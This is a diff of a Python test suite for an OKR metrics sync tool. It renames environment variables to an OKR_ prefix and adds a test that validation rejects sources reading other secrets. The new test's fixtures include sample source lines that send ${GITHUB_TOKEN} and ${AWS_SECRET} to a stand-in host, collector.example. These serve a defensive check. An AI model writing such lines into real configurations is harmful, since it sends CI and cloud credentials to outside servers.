@@ -164,14 +164,14 @@ def test_sqlite_timeout_stops_the_query(tmp_path: Path) -> None:
 
 def test_sql_url_from_the_environment_and_relative_sqlite(tmp_path: Path) -> None:
     database = sqlite_file(tmp_path / "build" / "m.db", [("w1", 30), ("w2", 12)])
-    from_env = key_result("PLAT-1.2", "sql: SELECT max(n) FROM signups\nurl_env: METRICS_URL")
+    from_env = key_result("PLAT-1.2", "sql: SELECT max(n) FROM signups\nurl_env: OKR_METRICS_URL")
     repo = make_repo(tmp_path, okr_file(from_env), {"data/metrics.db": database})
     code, out, _ = repo.sync()
     assert code == 1
-    assert_failed(repo, "PLAT-1.2", out, "the environment variable METRICS_URL")
-    code, out, _ = repo.sync(env={"METRICS_URL": "sqlite:///data/metrics.db"})
+    assert_failed(repo, "PLAT-1.2", out, "the environment variable OKR_METRICS_URL")
+    code, out, _ = repo.sync(env={"OKR_METRICS_URL": "sqlite:///data/metrics.db"})
     assert code == 0, out
-    assert "PLAT-1.2 10 -> 30 (sql: $METRICS_URL)" in out
+    assert "PLAT-1.2 10 -> 30 (sql: $OKR_METRICS_URL)" in out
 
 
 # ---- files ----------------------------------------------------------------------------
@@ -430,7 +430,7 @@ ROUTES: dict[str, Route] = {
 
 
 def http_source(url: str, select: str = "data.rate", extra: str = "") -> str:
-    headers = 'headers:\n  Authorization: "Bearer ${STATS_TOKEN}"'
+    headers = 'headers:\n  Authorization: "Bearer ${OKR_STATS_TOKEN}"'
     return f"http: {url}\nselect: {select}\n{headers}\n{extra}".strip()
 
 
@@ -443,8 +443,8 @@ def test_http_value_synced_with_a_token_from_the_environment(tmp_path: Path) -> 
         repo = make_repo(tmp_path, okr)
         code, out, _ = repo.sync("--commit")
         assert code == 1
-        assert_failed(repo, "PLAT-1.1", out, "the environment variable STATS_TOKEN")
-        token = {"STATS_TOKEN": "s3cret-from-env"}
+        assert_failed(repo, "PLAT-1.1", out, "the environment variable OKR_STATS_TOKEN")
+        token = {"OKR_STATS_TOKEN": "s3cret-from-env"}
         code, out, err = repo.sync("--commit", env=token)
         assert code == 0, out + err
         assert repo.diff() == (
@@ -483,7 +483,7 @@ def test_http_failures(tmp_path: Path, path: str, extra: str, said: str) -> None
         okr = okr_file(GOOD, key_result("PLAT-1.2", http_source(f"{base}{path}", extra=extra)))
         repo = make_repo(tmp_path, okr, GOOD_FILES)
         started = time.monotonic()
-        code, out, _ = repo.sync(env={"STATS_TOKEN": "s3cret-from-env"})
+        code, out, _ = repo.sync(env={"OKR_STATS_TOKEN": "s3cret-from-env"})
         assert time.monotonic() - started < 8
     assert code == 1
     assert_failed(repo, "PLAT-1.2", out, said)
@@ -495,7 +495,7 @@ def test_http_unreachable(tmp_path: Path) -> None:
 
     url = f"http://127.0.0.1:{free_port()}/stats"
     repo = make_repo(tmp_path, okr_file(GOOD, key_result("PLAT-1.2", http_source(url))), GOOD_FILES)
-    code, out, _ = repo.sync(env={"STATS_TOKEN": "x"})
+    code, out, _ = repo.sync(env={"OKR_STATS_TOKEN": "x"})
     assert code == 1
     assert_failed(repo, "PLAT-1.2", out, "cannot reach the server")
 
@@ -506,7 +506,7 @@ def test_literal_secrets_are_validation_errors(cli_repo: Repo) -> None:
         "select: rate\n"
         "headers:\n"
         "  Authorization: Bearer abcd1234efgh5678\n"
-        "  X-Trace: ${TRACE}"
+        "  X-Trace: ${OKR_TRACE}"
     )
     cli_repo.write(PLAT, okr_file(key_result("PLAT-1.1", source)))
     result = cli_repo.cli.run("validate")
@@ -519,8 +519,41 @@ def test_literal_secrets_are_validation_errors(cli_repo: Repo) -> None:
         f"{PLAT}:{line + 4}:28",
     ]
     assert "the header `Authorization` holds a literal secret" in lines[2]
-    assert 'Authorization: "Bearer ${API_TOKEN}"' in result.stdout
+    assert 'Authorization: "Bearer ${OKR_API_TOKEN}"' in result.stdout
     assert "hunter2" not in result.stdout and "abcd1234" not in result.stdout
+
+
+def test_sources_read_only_okr_environment_variables(cli_repo: Repo) -> None:
+    """A file cannot send the job's other secrets (a CI token) to a server it names."""
+    sources = (
+        "http: https://collector.example/?t=${GITHUB_TOKEN}\nselect: n",
+        'http: https://collector.example/\nselect: n\nheaders:\n  X-Id: "${AWS_SECRET}"',
+        "sql: SELECT 1\nurl_env: DATABASE_URL",
+        "prometheus: up\nserver_env: PROM",
+    )
+    okr = okr_file(*(key_result(f"PLAT-1.{i}", text) for i, text in enumerate(sources, 1)))
+    cli_repo.write(PLAT, okr)
+    result = cli_repo.cli.run("validate")
+    assert result.exit_code == 1
+    found = [line for line in result.stdout.splitlines() if ": error[" in line]
+    at = {ident: source_line(cli_repo, ident) for ident in ("PLAT-1.1", "PLAT-1.2")}
+    assert found[0].startswith(f"{PLAT}:{at['PLAT-1.1'] + 1}:17: error[OKR022]: PLAT-1.1: ")
+    assert "`${GITHUB_TOKEN}`: a source reads only environment variables named OKR_..." in found[0]
+    assert found[1].startswith(f"{PLAT}:{at['PLAT-1.2'] + 4}:13: error[OKR022]: PLAT-1.2: ")
+    assert "`${AWS_SECRET}`: a source reads only" in found[1]
+    assert "`url_env`" in found[2] and "DATABASE_URL" in found[2]
+    assert "`server_env`" in found[3] and "PROM" in found[3]
+    assert len(found) == 4, result.stdout
+    hints = [line for line in result.stdout.splitlines() if line.startswith("  hint: ")]
+    assert hints == [
+        "  hint: reference only variables named OKR_... (`${OKR_STATS_TOKEN}`), set by the job "
+        "that runs okr sync",
+    ] * 2 + [
+        "  hint: name a variable that starts with OKR_ (e.g. OKR_METRICS_URL) and set it where "
+        "okr sync runs",
+        "  hint: name a variable that starts with OKR_ (e.g. OKR_PROMETHEUS_URL) and set it "
+        "where okr sync runs",
+    ]
 
 
 # ---- the command as a whole -------------------------------------------------------------
